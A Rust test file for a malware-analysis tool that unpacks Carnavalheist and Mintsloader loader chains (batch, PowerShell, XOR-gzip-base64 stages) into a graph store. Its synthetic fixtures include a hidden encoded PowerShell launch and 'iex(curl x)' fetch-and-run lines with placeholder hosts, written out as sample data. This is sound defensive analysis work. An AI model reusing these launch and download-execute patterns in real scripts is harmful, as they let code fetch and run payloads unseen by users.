//! End-to-end tests for the Carnavalheist and Mintsloader pipelines:
//! full stage chains over a fresh store.

use base64::Engine;
use std::io::Write;

use macon::carnavalheist;
use macon::mintsloader;
use macon::nodes::MintsloaderPsKind;
use macon::store::{EdgeCollection, NodeCollection, NodeData, Store, StoreEdge};

fn b64(data: &[u8]) -> Vec<u8> {
    base64::engine::general_purpose::STANDARD.encode(data).into_bytes()
}

fn gzip(data: &[u8]) -> Vec<u8> {
    let mut enc = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    enc.write_all(data).unwrap();
    enc.finish().unwrap()
}

fn count_nodes(store: &Store, collection: NodeCollection) -> usize {
    store.nodes.iter().filter(|n| n.collection == collection).count()
}

#[test]
fn carnavalheist_batch_chain_reaches_python() {
    // python stage, wrapped once in base64 inside a PowerShell stage,
    // wrapped in base64 inside a batch stage
    let python = b"import pickle\nprint('x')";
    let ps_script = {
        let mut s = b"$p = base64.b64decode('".to_vec();
        s.extend_from_slice(&b64(python));
        s.extend_from_slice(b"')\n");
        s
    };
    let batch = {
        let mut s = b"@echo off\r\npowershell -WindowStyle Hidden -e ".to_vec();
        s.extend_from_slice(&b64(&ps_script));
        s.extend_from_slice(b" \r\n");
        s
    };

    let mut store = Store::new();
    let corpus = store.create_corpus_node();
    let main = carnavalheist::carnavalheist_create_main_node(&mut store, corpus);
    carnavalheist::carnavalheist_handle_sample(&mut store, main, &batch).expect("chain succeeds");

    assert_eq!(count_nodes(&store, NodeCollection::CarnavalheistBatch), 1);
    assert_eq!(count_nodes(&store, NodeCollection::CarnavalheistPs), 1);
    assert_eq!(count_nodes(&store, NodeCollection::CarnavalheistPython), 1);

    let batch_id = store
        .nodes
        .iter()
        .position(|n| n.collection == NodeCollection::CarnavalheistBatch)
        .unwrap();
    let ps_id = store
        .nodes
        .iter()
        .position(|n| n.collection == NodeCollection::CarnavalheistPs)
        .unwrap();
    let py_id = store
        .nodes
        .iter()
        .position(|n| n.collection == NodeCollection::CarnavalheistPython)
        .unwrap();
    assert!(store.edges.contains(&StoreEdge {
        collection: EdgeCollection::CarnavalheistHasBatch,
        from: main,
        to: batch_id,
    }));
    assert!(store.edges.contains(&StoreEdge {
        collection: EdgeCollection::CarnavalheistHasPs,
        from: batch_id,
        to: ps_id,
    }));
    assert!(store.edges.contains(&StoreEdge {
        collection: EdgeCollection::CarnavalheistHasPython,
        from: ps_id,
        to: py_id,
    }));

    match &store.nodes[py_id].data {
        NodeData::CarnavalheistPython(p) => {
            assert_eq!(p.sha256sum, sha256::digest(&python[..]).into_bytes());
        },
        other => panic!("unexpected node data: {other:?}"),
    }

    // re-submission short-circuits at the batch node
    let nodes_before = store.nodes.len();
    let edges_before = store.edges.len();
    carnavalheist::carnavalheist_handle_sample(&mut store, main, &batch).unwrap();
    assert_eq!(store.nodes.len(), nodes_before);
    assert_eq!(store.edges.len(), edges_before);
}

#[test]
fn carnavalheist_unclassifiable_sample_errors() {
    let mut store = Store::new();
    let corpus = store.create_corpus_node();
    let main = carnavalheist::carnavalheist_create_main_node(&mut store, corpus);
    assert!(matches!(
        carnavalheist::carnavalheist_handle_sample(&mut store, main, b"just noise"),
        Err(carnavalheist::CarnavalheistError::Unclassified)
    ));
}

#[test]
fn mintsloader_xor_stage_descends_into_next_stage_and_strings() {
    let key = b"ABCDEF123456";
    let next_stage = b"$executioncontext; $global:block=(curl example)";
    let gz = gzip(next_stage);
    let xored: Vec<u8> = gz
        .iter()
        .enumerate()
        .map(|(i, b)| b ^ key[i % key.len()])
        .collect();
    let blob = b64(&xored);

    // the obfuscated strings deobfuscate to "MIIE" (a certificate) and
    // "using System" (a code snippet)
    let mut sample = b"function Ab1 {param($k,$d) } (\"ABCDEF123456\") Ab1 \"".to_vec();
    sample.extend_from_slice(&blob);
    sample.extend_from_slice(b"\"\n@(77,73,73,69)\n@(117,115,105,110,103,32,83,121,115,116,101,109)\n");

    let mut store = Store::new();
    let corpus = store.create_corpus_node();
    let main = mintsloader::mintsloader_create_main_node(&mut store, corpus);
    mintsloader::mintsloader_handle_sample(&mut store, main, &sample).expect("chain succeeds");

    // the XOR stage itself, plus the decoded domain-generation stage
    assert_eq!(count_nodes(&store, NodeCollection::MintsloaderPs), 2);
    assert_eq!(count_nodes(&store, NodeCollection::MintsloaderX509Cert), 1);
    assert_eq!(count_nodes(&store, NodeCollection::MintsloaderJava), 1);

    let xor_id = store
        .nodes
        .iter()
        .position(|n| match &n.data {
            NodeData::MintsloaderPs(p) => p.kind == MintsloaderPsKind::XorBase64,
            _ => false,
        })
        .unwrap();
    let dga_id = store
        .nodes
        .iter()
        .position(|n| match &n.data {
            NodeData::MintsloaderPs(p) => p.kind == MintsloaderPsKind::DgaIex,
            _ => false,
        })
        .unwrap();
    assert!(store.edges.contains(&StoreEdge {
        collection: EdgeCollection::MintsloaderHasPs,
        from: main,
        to: xor_id,
    }));
    assert!(store.edges.contains(&StoreEdge {
        collection: EdgeCollection::MintsloaderHasPs,
        from: xor_id,
        to: dga_id,
    }));

    match &store.nodes[dga_id].data {
        NodeData::MintsloaderPs(p) => {
            assert_eq!(p.sha256sum, sha256::digest(&next_stage[..]).into_bytes());
        },
        other => panic!("unexpected node data: {other:?}"),
    }

    // the certificate node is keyed by the decoded certificate bytes
    let cert = base64::engine::general_purpose::STANDARD.decode("MIIE").unwrap();
    let x509 = store
        .nodes
        .iter()
        .find(|n| n.collection == NodeCollection::MintsloaderX509Cert)
        .unwrap();
    match &x509.data {
        NodeData::MintsloaderX509Cert(c) => {
            assert_eq!(c.sha256sum, sha256::digest(&cert[..]).into_bytes());
        },
        other => panic!("unexpected node data: {other:?}"),
    }

    // re-submission short-circuits at the XOR stage
    let nodes_before = store.nodes.len();
    let edges_before = store.edges.len();
    mintsloader::mintsloader_handle_sample(&mut store, main, &sample).unwrap();
    assert_eq!(store.nodes.len(), nodes_before);
    assert_eq!(store.edges.len(), edges_before);
}

#[test]
fn mintsloader_two_liner_records_embedded_strings() {
    let sample = b"@(77,73,73,69) @(117,115,105,110,103,32,83,121,115,116,101,109,59)";
    let mut store = Store::new();
    let corpus = store.create_corpus_node();
    let main = mintsloader::mintsloader_create_main_node(&mut store, corpus);
    mintsloader::mintsloader_handle_sample(&mut store, main, sample).expect("succeeds");

    let ps = store
        .nodes
        .iter()
        .find(|n| n.collection == NodeCollection::MintsloaderPs)
        .unwrap();
    match &ps.data {
        NodeData::MintsloaderPs(p) => assert_eq!(p.kind, MintsloaderPsKind::TwoLiner),
        other => panic!("unexpected node data: {other:?}"),
    }
    assert_eq!(count_nodes(&store, NodeCollection::MintsloaderX509Cert), 1);
    assert_eq!(count_nodes(&store, NodeCollection::MintsloaderJava), 1);
}

#[test]
fn mintsloader_bare_stages_become_nodes() {
    let mut store = Store::new();
    let corpus = store.create_corpus_node();
    let main = mintsloader::mintsloader_create_main_node(&mut store, corpus);

    mintsloader::mintsloader_handle_sample(
        &mut store,
        main,
        b"$executioncontext; iex(curl x)\n2\n3\n4\n5\n6",
    )
    .unwrap();
    mintsloader::mintsloader_handle_sample(
        &mut store,
        main,
        b"start-process powershell -y\n2\n3\n4\n5\n6",
    )
    .unwrap();
    assert_eq!(count_nodes(&store, NodeCollection::MintsloaderPs), 2);

    assert!(matches!(
        mintsloader::mintsloader_handle_sample(&mut store, main, b"a\nb\nc\nd\ne\nf"),
        Err(mintsloader::MintsloaderError::Unclassified)
    ));
}
